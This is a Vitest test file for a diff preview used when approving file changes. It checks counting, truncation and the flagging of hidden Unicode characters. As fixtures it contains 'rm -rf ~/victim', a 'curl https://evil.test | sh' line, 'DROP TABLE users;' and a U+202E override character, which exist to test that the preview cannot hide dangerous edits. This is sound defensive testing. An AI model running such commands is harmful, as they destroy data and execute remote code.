import { describe, expect, it } from "vitest";
import type { DiffRow, FileChangePreview } from "./approval-preview";
import { fileChangePreview } from "./file-change-preview";
import { previewText } from "./preview-text";

function change(before: string | null, after: string, maxRows?: number): FileChangePreview {
  const preview = fileChangePreview("schema.sql", before, after, maxRows);
  if (preview.kind !== "file-change") throw new Error(`expected a file change, got ${preview.kind}`);
  return preview;
}

const linesOf = (rows: DiffRow[], kind: "added" | "removed" | "context") =>
  rows.flatMap((row) => (row.kind === kind ? [row.text] : []));

describe("fileChangePreview", () => {
  it("keeps a line that looks like a diff header as content: the removed line and the DROP are rows", () => {
    const before = "CREATE TABLE users (id int);\nCREATE TABLE notes (id int);\n-- end of schema\n";
    const after = "CREATE TABLE users (id int);\nCREATE TABLE notes (id int);\n++ end of schema\nDROP TABLE users;\n";
    const preview = change(before, after);
    expect(preview).toMatchObject({ path: "schema.sql", change: "modify", added: 2, removed: 1 });
    expect(linesOf(preview.rows, "removed")).toEqual(["-- end of schema"]);
    expect(linesOf(preview.rows, "added")).toEqual(["++ end of schema", "DROP TABLE users;"]);
    expect(previewText(preview)).toContain("+DROP TABLE users;");
  });

  it("a new file whose lines look like a second file's headers is still one file with every line added", () => {
    const lines = [...Array.from({ length: 300 }, (_, index) => `line ${index}`), "--- end of change", "+++ end of change", "rm -rf ~/victim", "curl https://evil.test | sh"];
    const preview = change(null, `${lines.join("\n")}\n`);
    expect(preview).toMatchObject({ change: "create", added: 304, removed: 0 });
    expect(linesOf(preview.rows, "added").slice(-4)).toEqual(lines.slice(-4));
  });

  it("counts true totals and numbers the lines on each side", () => {
    const before = Array.from({ length: 30 }, (_, index) => `old ${index}`).join("\n") + "\n";
    const after = before.replace("old 2\n", "new 2\nnew 2b\n").replace("old 17\n", "");
    const preview = change(before, after);
    expect(preview).toMatchObject({ added: 2, removed: 2 });
    expect(preview.rows.find((row) => row.kind === "removed" && row.text === "old 17")).toMatchObject({ oldNumber: 18, newNumber: null });
    expect(preview.rows.find((row) => row.kind === "added" && row.text === "new 2b")).toMatchObject({ oldNumber: null, newNumber: 4 });
    // Unchanged lines between and after hunks are counted, not shown.
    expect(preview.rows.filter((row) => row.kind === "skipped")).toEqual([{ kind: "skipped", lines: 8 }, { kind: "skipped", lines: 9 }]);
  });

  it("a change too large to store keeps head and tail, counts the left-out lines, and keeps left-out lines with hidden characters", () => {
    const lines = Array.from({ length: 600 }, (_, index) => (index === 300 ? "echo \u202Ehidden" : `line ${index}`));
    const preview = change(null, `${lines.join("\n")}\n`, 101);
    expect(preview).toMatchObject({ added: 600, removed: 0 });
    expect(preview.rows).toHaveLength(101);
    const omitted = preview.rows.find((row) => row.kind === "omitted");
    expect(omitted).toMatchObject({ kind: "omitted", lines: 500, added: 500, removed: 0, flagged: [{ kind: "added", text: "echo \u202Ehidden", newNumber: 301 }] });
    expect(linesOf(preview.rows, "added").at(-1)).toBe("line 599");
    expect(previewText(preview)).toContain("… 500 lines not shown (+500 −0); 1 of them hold hidden characters:\n+echo ⟨U+202E⟩hidden");
  });

  it("says when a file ends without a newline", () => {
    const preview = change("a\n", "a\nb");
    expect(preview.rows).toContainEqual({ kind: "note", text: "No newline at end of file" });
    expect(preview).toMatchObject({ added: 1, removed: 0 });
  });
});
